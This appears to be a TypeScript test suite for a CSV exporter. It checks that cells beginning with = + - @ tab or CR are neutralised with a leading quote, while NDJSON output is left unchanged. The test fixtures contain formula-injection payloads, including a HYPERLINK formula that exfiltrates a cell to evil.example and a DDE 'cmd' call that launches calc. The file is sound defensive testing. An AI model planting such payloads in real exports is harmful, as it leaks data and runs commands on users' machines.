/**
 * CSV injection (OWASP): a value planted in a base database — a name, an address, a business scope —
 * that begins with = + - @ TAB or CR would run as a formula when the consumer opens the batch
 * export in a spreadsheet (=HYPERLINK to exfiltrate the neighbouring cells, =cmd|…). The exporter
 * writes every row through platform/exports/format.ts; each such cell gets a single quote in
 * front, inside the RFC 4180 quoting, and NDJSON is left as data.
 */
import { headerLine, rowLine } from '../../platform/exports/format';

const parse = (line: string): string[] => {
  const cells: string[] = [];
  const re = /("((?:[^"]|"")*)"|[^,\r\n]*)(,|\r\n)/gy;
  for (let m = re.exec(line); m; m = re.exec(line)) cells.push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
  return cells;
};

describe('a CSV cell a spreadsheet would run', () => {
  const hostile = {
    a: '=HYPERLINK("http://evil.example/?"&B2,"详情")',
    b: "+1+cmd|' /C calc'!A0",
    c: '-2+3',
    d: '@SUM(A1:A9)',
    e: '\tmasked',
    f: '\r=1+1',
  };
  const fields = Object.keys(hostile);

  it('starts with a quote for = + - @ TAB CR, and the rest of the value is kept exactly', () => {
    const cells = parse(rowLine('CSV', fields, hostile));
    expect(cells).toEqual(Object.values(hostile).map((v) => `'${v}`));
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves ordinary values alone, a quote or minus inside a value included, and null empty', () => {
    const row = { name: '王*', n: 42, neg: 'a-1', q: "O'Brien", none: null, json: { x: 1 } };
    expect(parse(rowLine('CSV', Object.keys(row), row))).toEqual(['王*', '42', 'a-1', "O'Brien", '', '{"x":1}']);
  });

  it('neutralises a negative number too (a spreadsheet would read "-5" as a formula start) and a header name', () => {
    expect(parse(rowLine('CSV', ['v'], { v: -5 }))).toEqual(["'-5"]);
    expect(parse(headerLine('CSV', ['=evil']).replace(/^\uFEFF/, ''))).toEqual(["'=evil"]);
  });

  it('changes nothing in NDJSON: it is data, not a sheet', () => {
    expect(JSON.parse(rowLine('NDJSON', fields, hostile))).toEqual(hostile);
  });
});
